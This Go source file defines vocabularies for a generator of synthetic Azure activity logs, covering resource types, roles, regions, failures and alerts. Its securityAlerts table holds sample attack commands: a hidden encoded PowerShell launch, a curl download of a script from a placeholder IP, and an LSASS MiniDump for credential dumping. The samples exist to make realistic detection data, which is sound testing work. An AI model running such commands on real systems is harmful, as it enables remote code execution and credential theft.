package gen

// Fixed vocabularies the generator draws from. Names of Azure resource
// providers, types, operations, regions, built-in roles and first-party
// client applications are the real ones (they are public facts); people,
// resource names and all identifiers are made up.

// bodyKind selects the shape of the request and response bodies written
// for a resource type.
type bodyKind uint8

const (
	bodyGeneric bodyKind = iota
	bodyStorage
	bodyVM
	bodyNSGRule
	bodyWebSite
	bodyKeyVault
	bodyDeployment
	bodyRoleAssignment
	bodyDiagnostic
	bodyCluster
)

// resourceType is one ARM resource type: types and names alternate in its
// IDs, so a child type lists two type segments ("servers/databases").
type resourceType struct {
	provider string
	types    []string // type segments
	prefixes []string // name prefix per segment; "default" is written as is
	actions  []string // operations besides write and delete, e.g. "listKeys/action"
	body     bodyKind
	weight   int // relative number of resources of this type
	noDelete bool
}

var resourceTypes = []resourceType{
	{provider: "Microsoft.Storage", types: []string{"storageAccounts"}, prefixes: []string{"st"}, actions: []string{"listKeys/action", "regenerateKey/action", "listAccountSas/action", "failover/action"}, body: bodyStorage, weight: 14},
	{provider: "Microsoft.Storage", types: []string{"storageAccounts", "blobServices", "containers"}, prefixes: []string{"st", "default", "c"}, body: bodyGeneric, weight: 8},
	{provider: "Microsoft.Compute", types: []string{"virtualMachines"}, prefixes: []string{"vm"}, actions: []string{"start/action", "restart/action", "deallocate/action", "powerOff/action", "runCommand/action", "redeploy/action", "installPatches/action", "assessPatches/action"}, body: bodyVM, weight: 14},
	{provider: "Microsoft.Compute", types: []string{"virtualMachines", "extensions"}, prefixes: []string{"vm", "ext"}, body: bodyGeneric, weight: 6},
	{provider: "Microsoft.Compute", types: []string{"disks"}, prefixes: []string{"disk"}, actions: []string{"beginGetAccess/action", "endGetAccess/action"}, body: bodyGeneric, weight: 10},
	{provider: "Microsoft.Compute", types: []string{"snapshots"}, prefixes: []string{"snap"}, body: bodyGeneric, weight: 4},
	{provider: "Microsoft.Compute", types: []string{"virtualMachineScaleSets"}, prefixes: []string{"vmss"}, actions: []string{"start/action", "restart/action", "manualUpgrade/action"}, body: bodyGeneric, weight: 3},
	{provider: "Microsoft.Network", types: []string{"networkSecurityGroups"}, prefixes: []string{"nsg"}, body: bodyGeneric, weight: 8},
	{provider: "Microsoft.Network", types: []string{"networkSecurityGroups", "securityRules"}, prefixes: []string{"nsg", "rule"}, body: bodyNSGRule, weight: 8},
	{provider: "Microsoft.Network", types: []string{"virtualNetworks"}, prefixes: []string{"vnet"}, body: bodyGeneric, weight: 4},
	{provider: "Microsoft.Network", types: []string{"virtualNetworks", "subnets"}, prefixes: []string{"vnet", "snet"}, actions: []string{"join/action"}, body: bodyGeneric, weight: 6},
	{provider: "Microsoft.Network", types: []string{"networkInterfaces"}, prefixes: []string{"nic"}, actions: []string{"join/action"}, body: bodyGeneric, weight: 10},
	{provider: "Microsoft.Network", types: []string{"publicIPAddresses"}, prefixes: []string{"pip"}, actions: []string{"join/action"}, body: bodyGeneric, weight: 5},
	{provider: "Microsoft.Network", types: []string{"loadBalancers"}, prefixes: []string{"lb"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Network", types: []string{"applicationGateways"}, prefixes: []string{"agw"}, actions: []string{"start/action", "stop/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Network", types: []string{"privateEndpoints"}, prefixes: []string{"pe"}, body: bodyGeneric, weight: 4},
	{provider: "Microsoft.Network", types: []string{"privateDnsZones", "A"}, prefixes: []string{"privatelink", "rec"}, body: bodyGeneric, weight: 3},
	{provider: "Microsoft.Network", types: []string{"routeTables"}, prefixes: []string{"rt"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Network", types: []string{"frontDoors"}, prefixes: []string{"fd"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Web", types: []string{"sites"}, prefixes: []string{"app"}, actions: []string{"restart/action", "stop/action", "start/action", "publishxml/action", "slotsswap/action", "syncfunctiontriggers/action", "backup/action"}, body: bodyWebSite, weight: 8},
	{provider: "Microsoft.Web", types: []string{"sites", "config"}, prefixes: []string{"app", "appsettings"}, actions: []string{"list/action"}, body: bodyWebSite, weight: 4, noDelete: true},
	{provider: "Microsoft.Web", types: []string{"sites", "slots"}, prefixes: []string{"app", "staging"}, body: bodyWebSite, weight: 2},
	{provider: "Microsoft.Web", types: []string{"serverfarms"}, prefixes: []string{"asp"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.KeyVault", types: []string{"vaults"}, prefixes: []string{"kv"}, actions: []string{"deploy/action"}, body: bodyKeyVault, weight: 4},
	{provider: "Microsoft.KeyVault", types: []string{"vaults", "secrets"}, prefixes: []string{"kv", "secret"}, body: bodyGeneric, weight: 5},
	{provider: "Microsoft.KeyVault", types: []string{"vaults", "accessPolicies"}, prefixes: []string{"kv", "add"}, body: bodyKeyVault, weight: 1, noDelete: true},
	{provider: "Microsoft.Sql", types: []string{"servers"}, prefixes: []string{"sql"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Sql", types: []string{"servers", "databases"}, prefixes: []string{"sql", "sqldb"}, body: bodyGeneric, weight: 4},
	{provider: "Microsoft.Sql", types: []string{"servers", "firewallRules"}, prefixes: []string{"sql", "fw"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.DocumentDB", types: []string{"databaseAccounts"}, prefixes: []string{"cosmos"}, actions: []string{"listKeys/action", "regenerateKey/action", "readonlykeys/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.ContainerService", types: []string{"managedClusters"}, prefixes: []string{"aks"}, actions: []string{"listClusterUserCredential/action", "listClusterAdminCredential/action", "runCommand/action", "start/action", "stop/action"}, body: bodyCluster, weight: 2},
	{provider: "Microsoft.ContainerService", types: []string{"managedClusters", "agentPools"}, prefixes: []string{"aks", "pool"}, body: bodyCluster, weight: 3},
	{provider: "Microsoft.ContainerRegistry", types: []string{"registries"}, prefixes: []string{"acr"}, actions: []string{"listCredentials/action", "importImage/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.EventHub", types: []string{"namespaces"}, prefixes: []string{"evhns"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.EventHub", types: []string{"namespaces", "eventhubs"}, prefixes: []string{"evhns", "evh"}, body: bodyGeneric, weight: 3},
	{provider: "Microsoft.EventHub", types: []string{"namespaces", "authorizationRules"}, prefixes: []string{"evhns", "RootManageSharedAccessKey"}, actions: []string{"listKeys/action", "regenerateKeys/action"}, body: bodyGeneric, weight: 2, noDelete: true},
	{provider: "Microsoft.ServiceBus", types: []string{"namespaces"}, prefixes: []string{"sb"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.ServiceBus", types: []string{"namespaces", "queues"}, prefixes: []string{"sb", "q"}, body: bodyGeneric, weight: 3},
	{provider: "Microsoft.Insights", types: []string{"diagnosticSettings"}, prefixes: []string{"diag"}, body: bodyDiagnostic, weight: 3},
	{provider: "Microsoft.Insights", types: []string{"components"}, prefixes: []string{"appi"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Insights", types: []string{"actionGroups"}, prefixes: []string{"ag"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Insights", types: []string{"metricAlerts"}, prefixes: []string{"alert"}, body: bodyGeneric, weight: 3},
	{provider: "Microsoft.Insights", types: []string{"autoscaleSettings"}, prefixes: []string{"autoscale"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.OperationalInsights", types: []string{"workspaces"}, prefixes: []string{"log"}, actions: []string{"sharedKeys/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.ManagedIdentity", types: []string{"userAssignedIdentities"}, prefixes: []string{"id"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Resources", types: []string{"deployments"}, prefixes: []string{"deploy"}, actions: []string{"validate/action", "whatIf/action", "cancel/action"}, body: bodyDeployment, weight: 8, noDelete: true},
	{provider: "Microsoft.Authorization", types: []string{"roleAssignments"}, prefixes: []string{""}, body: bodyRoleAssignment, weight: 4},
	{provider: "Microsoft.Authorization", types: []string{"locks"}, prefixes: []string{"lock"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Cache", types: []string{"redis"}, prefixes: []string{"redis"}, actions: []string{"listKeys/action", "regenerateKey/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.App", types: []string{"containerApps"}, prefixes: []string{"ca"}, actions: []string{"listSecrets/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Logic", types: []string{"workflows"}, prefixes: []string{"logic"}, actions: []string{"run/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Automation", types: []string{"automationAccounts", "runbooks"}, prefixes: []string{"aa", "rb"}, actions: []string{"draft/write"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.RecoveryServices", types: []string{"vaults"}, prefixes: []string{"rsv"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Network", types: []string{"dnsZones", "A"}, prefixes: []string{"zone", "rec"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Network", types: []string{"natGateways"}, prefixes: []string{"ng"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Network", types: []string{"bastionHosts"}, prefixes: []string{"bas"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Network", types: []string{"azureFirewalls"}, prefixes: []string{"afw"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Network", types: []string{"firewallPolicies", "ruleCollectionGroups"}, prefixes: []string{"afwp", "rcg"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Network", types: []string{"networkWatchers", "flowLogs"}, prefixes: []string{"nw", "fl"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Compute", types: []string{"availabilitySets"}, prefixes: []string{"avail"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Compute", types: []string{"galleries", "images", "versions"}, prefixes: []string{"gal", "img", "ver"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Insights", types: []string{"scheduledQueryRules"}, prefixes: []string{"sqr"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.Insights", types: []string{"dataCollectionRules"}, prefixes: []string{"dcr"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.DataFactory", types: []string{"factories"}, prefixes: []string{"adf"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.DataFactory", types: []string{"factories", "pipelines"}, prefixes: []string{"adf", "pl"}, actions: []string{"createRun/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.ApiManagement", types: []string{"service"}, prefixes: []string{"apim"}, actions: []string{"backup/action", "applynetworkconfigurationupdates/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.ApiManagement", types: []string{"service", "apis"}, prefixes: []string{"apim", "api"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.CognitiveServices", types: []string{"accounts"}, prefixes: []string{"cog"}, actions: []string{"listKeys/action", "regenerateKey/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.MachineLearningServices", types: []string{"workspaces"}, prefixes: []string{"mlw"}, actions: []string{"listKeys/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Search", types: []string{"searchServices"}, prefixes: []string{"srch"}, actions: []string{"listAdminKeys/action", "listQueryKeys/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.DBforPostgreSQL", types: []string{"flexibleServers"}, prefixes: []string{"psql"}, actions: []string{"restart/action", "start/action", "stop/action"}, body: bodyGeneric, weight: 2},
	{provider: "Microsoft.DBforMySQL", types: []string{"flexibleServers"}, prefixes: []string{"mysql"}, actions: []string{"restart/action", "start/action", "stop/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.Batch", types: []string{"batchAccounts"}, prefixes: []string{"batch"}, actions: []string{"listKeys/action"}, body: bodyGeneric, weight: 1},
	{provider: "Microsoft.SignalRService", types: []string{"signalR"}, prefixes: []string{"sigr"}, actions: []string{"listKeys/action"}, body: bodyGeneric, weight: 1},
}

var regions = []string{"eastus", "eastus2", "westeurope", "northeurope", "uksouth", "westus2", "centralus", "francecentral", "swedencentral", "southeastasia"}

var regionNames = []string{"East US", "East US 2", "West Europe", "North Europe", "UK South", "West US 2", "Central US", "France Central", "Sweden Central", "Southeast Asia"}

// roleLocations, stamps and releases are the undocumented RoleLocation,
// Stamp and ReleaseVersion members that recent exports carry.
var roleLocations = []string{"France South", "East US 2", "West Europe", "North Europe", "Switzerland West", "Central US", "UK West"}

var stamps = []string{"FDWeb", "FDWorker"}

var releases = []string{"6.2025.14.4+d2b1f0e.release_2025w14", "6.2025.15.1+8c0a7e2.release_2025w15"}

var appNames = []string{"billing", "checkout", "catalog", "search", "identity", "payments", "reporting", "ingest", "portal", "hr", "crm", "erp", "data", "ml", "shared", "network", "security", "monitor", "backup", "edge"}

var envNames = []string{"prod", "dev", "test", "stage", "qa"}

var givenNames = []string{"Ava", "Noah", "Mia", "Liam", "Emma", "Lucas", "Sofia", "Mateo", "Chloe", "Ethan", "Hana", "Omar", "Priya", "Arjun", "Yuki", "Kenji", "Fatima", "Ali", "Ingrid", "Lars", "Elena", "Marco", "Zoe", "Felix", "Amara", "Kofi", "Nina", "Tomas", "Leila", "Sven", "Grace", "Daniel", "Rosa", "Diego", "Anna", "Jonas", "Maya", "Ravi", "Clara", "Hugo"}

var surnames = []string{"Okafor", "Lindqvist", "Moreau", "Tanaka", "Schmidt", "Novak", "Haddad", "Silva", "Kowalski", "Nguyen", "Fischer", "Rossi", "Patel", "Kim", "Larsen", "Garcia", "Murphy", "Dubois", "Ivanova", "Costa", "Brennan", "Weber", "Sato", "Mensah", "Horvat", "Jensen", "Alvarez", "Chen", "Novotny", "Byrne"}

var servicePrincipalNames = []string{"terraform", "github-actions", "azure-devops", "aks-agentpool", "backup-runner", "cert-renewer", "cost-exporter", "dns-updater", "policy-remediation", "log-shipper", "sql-maintenance", "image-builder"}

// Built-in role names with their well-known definition IDs, and a few
// custom roles whose IDs the generator makes up per run.
var builtinRoles = []struct{ name, id string }{
	{"Owner", "8e3af657a8ff443ca75c2fe8c4bcb635"},
	{"Contributor", "b24988ac618042a0ab8820f7f8e6ffed"},
	{"Reader", "acdd72a7338548efbd42f606fffaf2c7"},
	{"User Access Administrator", "18d7d88dd35e4fb5a5c37773c20a72d9"},
}

var customRoles = []string{"Platform Operator", "App Deployer", "Network Operator", "Key Vault Operator", "Storage Operator"}

// First-party client applications users sign in with.
var clientApps = []struct{ name, id, acr string }{
	{"Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "2"},
	{"Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "0"},
	{"Azure PowerShell", "1950a258-227b-4e31-a9cf-717495945fc2", "0"},
	{"Visual Studio Code", "aebc6443-996d-45c2-90f0-388ff96faa56", "0"},
}

var vmSizes = []string{"Standard_D2s_v5", "Standard_D4s_v5", "Standard_D8s_v5", "Standard_E4s_v5", "Standard_B2ms", "Standard_F4s_v2"}

var storageSkus = []string{"Standard_LRS", "Standard_GRS", "Standard_ZRS", "Premium_LRS", "Standard_RAGRS"}

var statusTexts = []struct {
	code      string // properties.statusCode
	signature string // resultSignature suffix
}{
	{"OK", "OK"}, {"Created", "Created"}, {"Accepted", "Accepted"}, {"NoContent", "NoContent"},
}

// failure is one way an operation fails.
type failure struct {
	code      string // properties.statusCode
	signature string // resultSignature after "Failed."
	errCode   string // error.code in statusMessage
	message   string
}

var failures = []failure{
	{"Conflict", "Conflict", "Conflict", "Operation cannot be completed because the resource is being updated by another operation."},
	{"BadRequest", "BadRequest", "InvalidParameter", "The value of parameter properties.sku is invalid for this location."},
	{"Forbidden", "Forbidden", "AuthorizationFailed", "The client does not have authorization to perform this action over the scope, or the scope is invalid. If access was recently granted, please refresh your credentials."},
	{"NotFound", "NotFound", "ResourceNotFound", "The Resource was not found. For more details please go to https://aka.ms/ARMResourceNotFoundFix"},
	{"InternalServerError", "InternalServerError", "InternalServerError", "An unexpected error occurred while processing the request. Tracking ID: '%s'"},
	{"Conflict", "Conflict", "ScopeLocked", "The scope cannot perform write operation because following scope(s) are locked. Please remove the lock and try again."},
}

var incidentServices = []string{"App Service", "Virtual Machines", "Azure Kubernetes Service (AKS)", "Storage", "Azure SQL Database", "Azure Front Door", "Key Vault", "Azure Monitor", "Event Hubs", "Azure Cosmos DB"}

var incidentKinds = []struct{ op, incidentType, level string }{
	{"incident", "Incident", "Warning"},
	{"maintenance", "Maintenance", "Informational"},
	{"actionrequired", "ActionRequired", "Informational"},
	{"info", "Informational", "Informational"},
	{"security", "Security", "Error"},
}

var maintenanceStages = []string{"Planned", "InProgress", "Complete", "Active", "Resolved"}

var healthTitles = []struct{ title, details, kind, cause, current, previous, op, result string }{
	{"Unknown", "Unknown", "Downtime", "Unknown", "Unavailable", "Available", "Activated", "Active"},
	{"This virtual machine is starting as requested by an authorized user or process. It will be online shortly.", "VirtualMachineStartInitiatedByControlPlane", "Downtime", "UserInitiated", "Unknown", "Unknown", "Updated", "Updated"},
	{"This virtual machine is stopping and deallocating as requested by an authorized user or process.", "VirtualMachineDeallocationInitiated", "Downtime", "UserInitiated", "Unavailable", "Available", "Updated", "Updated"},
	{"We're sorry, your virtual machine isn't available because an unexpected failure on the host server.", "VirtualMachineHostCrashed", "Downtime", "PlatformInitiated", "Unavailable", "Available", "Activated", "Active"},
	{"Your resource is available again.", "Available", "Downtime", "PlatformInitiated", "Available", "Unavailable", "Resolved", "Resolved"},
	{"The resource is degraded because of planned maintenance.", "PlannedMaintenance", "Degraded", "PlatformInitiated", "Degraded", "Available", "InProgress", "In Progress"},
}

var advisorRecommendations = []struct{ category, impact, name string }{
	{"HighAvailability", "High", "Consider having at least two origins"},
	{"HighAvailability", "Medium", "Use Availability zones for better resiliency and availability"},
	{"Cost", "High", "Right-size or shutdown underutilized virtual machines"},
	{"Cost", "Medium", "Consider reserved instance to save over your on-demand costs"},
	{"Security", "High", "Storage accounts should restrict network access"},
	{"Performance", "Medium", "Upgrade to the latest version of the Immersive Reader SDK"},
	{"OperationalExcellence", "Low", "Enable soft delete for your Recovery Services vaults"},
	{"Security", "Medium", "Key Vault secrets should have an expiration date"},
}

var alertMetrics = []struct{ metric, unit, op, agg string }{
	{"Percentage CPU", "Percent", "GreaterThan", "Average"},
	{"Disk read", "Count", "LessThan", "Average"},
	{"Http5xx", "Count", "GreaterThan", "Total"},
	{"Available Memory Bytes", "Bytes", "LessThan", "Minimum"},
	{"Requests", "Count", "GreaterThan", "Total"},
}

var securityAlerts = []struct{ name, severity, process, command string }{
	{"Suspicious double extension file executed", "High", "c:\\users\\public\\invoice.pdf.exe", "c:\\users\\public\\invoice.pdf.exe /silent"},
	{"Suspicious PowerShell activity detected", "Medium", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="},
	{"Detected suspicious file download", "Low", "/usr/bin/curl", "curl -s http://198.51.100.23/x.sh -o /tmp/x.sh"},
	{"Possible credential dumping detected", "High", "c:\\windows\\system32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"},
}

var policyEffects = []struct{ op, effect, level, result string }{
	{"audit", "Audit", "Warning", "Success"},
	{"auditIfNotExists", "AuditIfNotExists", "Warning", "Success"},
	{"deny", "Deny", "Error", "Failure"},
	{"modify", "Modify", "Informational", "Success"},
}

var policyDefinitions = []string{
	"App Service apps should use managed identity",
	"Storage accounts should restrict network access",
	"Allowed locations",
	"Require a tag on resources",
	"Key vaults should have deletion protection enabled",
	"Network interfaces should not have public IPs",
	"Azure Kubernetes Service Clusters should have local authentication methods disabled",
	"Diagnostic logs in Key Vault should be enabled",
}

var pimEvents = []struct{ op, event, action string }{
	{"Add member to role requested (PIM activation)", "CreateRequestRoleActivation", "Activate"},
	{"Add member to role completed (PIM activation)", "AddActivatedRole", "Activate"},
	{"Remove member from role (PIM activation expired)", "RemoveActivatedRole", "Revoke"},
}
